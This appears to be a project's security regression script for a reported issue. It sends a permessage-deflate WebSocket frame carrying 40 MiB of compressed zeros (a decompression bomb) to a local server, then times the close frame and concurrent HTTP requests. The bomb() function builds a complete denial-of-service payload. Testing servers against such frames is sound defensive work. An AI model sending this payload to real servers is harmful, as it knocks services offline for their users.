"""Issue #17, finding 2: one permessage-deflate text frame of 40 MiB of zeros (about 40 KB on the
wire). Times the server's close frame, and two plain GETs meanwhile (with two event loops, one of
them shares the socket's loop). Before the fix the frame held that loop for 12 s.

    java -jar examples/target/examples.jar websocket-echo --port 8000 &
    python3 bench/security/ws_bomb.py 8000 /ws /
"""
import os
import socket
import sys
import threading
import time
import urllib.request
import zlib

port, ws_path, http_path = int(sys.argv[1]), sys.argv[2], sys.argv[3]


def handshake():
    s = socket.create_connection(("127.0.0.1", port))
    s.sendall((f"GET {ws_path} HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
               "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n"
               "Sec-WebSocket-Extensions: permessage-deflate\r\n\r\n").encode())
    head = b""
    while b"\r\n\r\n" not in head:
        head += s.recv(4096)
    print(head.split(b"\r\n")[0].decode(), "| deflate negotiated:", b"permessage-deflate" in head.lower())
    return s


def bomb():
    deflater = zlib.compressobj(9, zlib.DEFLATED, -15)
    payload = (deflater.compress(bytes(40 << 20)) + deflater.flush(zlib.Z_SYNC_FLUSH))[:-4]  # RFC 7692 §7.2.1
    n = len(payload)
    size = bytes([0x80 | n]) if n < 126 else bytes([0x80 | 126]) + n.to_bytes(2, "big") if n < 65536 \
        else bytes([0x80 | 127]) + n.to_bytes(8, "big")
    mask = os.urandom(4)
    return bytes([0xC1]) + size + mask + bytes(b ^ mask[i & 3] for i, b in enumerate(payload))


def pings():
    time.sleep(0.3)
    for _ in range(2):
        start = time.time()
        urllib.request.urlopen(f"http://127.0.0.1:{port}{http_path}", timeout=120).read()
        print(f"concurrent GET {http_path}: answered in {time.time() - start:.2f}s")


sock = handshake()
frame = bomb()
print("frame on the wire:", len(frame), "bytes")
sent = time.time()
sock.sendall(frame)
meanwhile = threading.Thread(target=pings)
meanwhile.start()
sock.settimeout(120)
data = b""
while True:
    chunk = sock.recv(65536)
    if not chunk:
        print(f"connection closed after {time.time() - sent:.2f}s without a close frame")
        break
    data += chunk
    if data[0] & 0x0F == 8 and len(data) >= 2 + (data[1] & 0x7F):
        reason = data[4:2 + (data[1] & 0x7F)].decode(errors="replace")
        print(f"close frame {int.from_bytes(data[2:4], 'big')} {reason!r} after {time.time() - sent:.2f}s")
        break
meanwhile.join()
